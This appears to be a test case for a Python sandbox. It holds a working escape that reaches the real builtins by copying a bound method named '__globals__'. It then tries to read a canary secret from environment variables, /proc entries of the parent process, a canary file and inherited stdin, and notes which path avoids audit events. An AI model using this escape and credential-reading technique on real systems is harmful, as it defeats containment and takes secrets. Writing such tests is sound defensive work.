# technique: read SAFEPY_CANARY_SECRET from the supervisor: os.environ and posix.environ of the worker, /proc/<parent>/environ and cmdline, /proc/self/environ, /proc/<parent>/fd, the canary file, and last a read of inherited fd 0, all through the real builtins and os
# expect: any
import copy, json

class A:
    def m(self):
        pass

MethodType = type(A().m)

def peek(obj, name):
    def f():
        pass
    f.__name__ = name
    return copy.copy(MethodType(f, obj))

bi = peek(json.dumps, "__globals__")["__builtins__"]
sys = bi["__import__"]("sys")
os = sys.modules["os"]
posix = sys.modules["posix"]
parent = os.getppid()

def read(path):
    fd = os.open(path, os.O_RDONLY)
    return os.read(fd, 1 << 16)

attempts = [
    lambda: dict(os.environ),
    lambda: dict(posix.environ),
    lambda: bi["open"]("/proc/%d/environ" % parent, "rb").read(),
    lambda: read("/proc/%d/environ" % parent),
    lambda: read("/proc/%d/cmdline" % parent),
    lambda: read("/proc/self/environ"),
    lambda: os.listdir("/proc/%d/fd" % parent),
    lambda: os.readlink("/proc/%d/exe" % parent),
    lambda: read("CANARY_PATH"),
    lambda: bi["open"]("CANARY_PATH").read(),
    lambda: os.stat("CANARY_PATH"),
]
outcomes = []
for attempt in attempts:
    try:
        outcomes.append(repr(attempt()))
    except Exception as e:
        outcomes.append("%s: %s" % (type(e).__name__, e))
print(outcomes)
outcomes.append(os.read(0, 1 << 16))     # fd 0 raises no audit event: only the kernel is left
outcomes
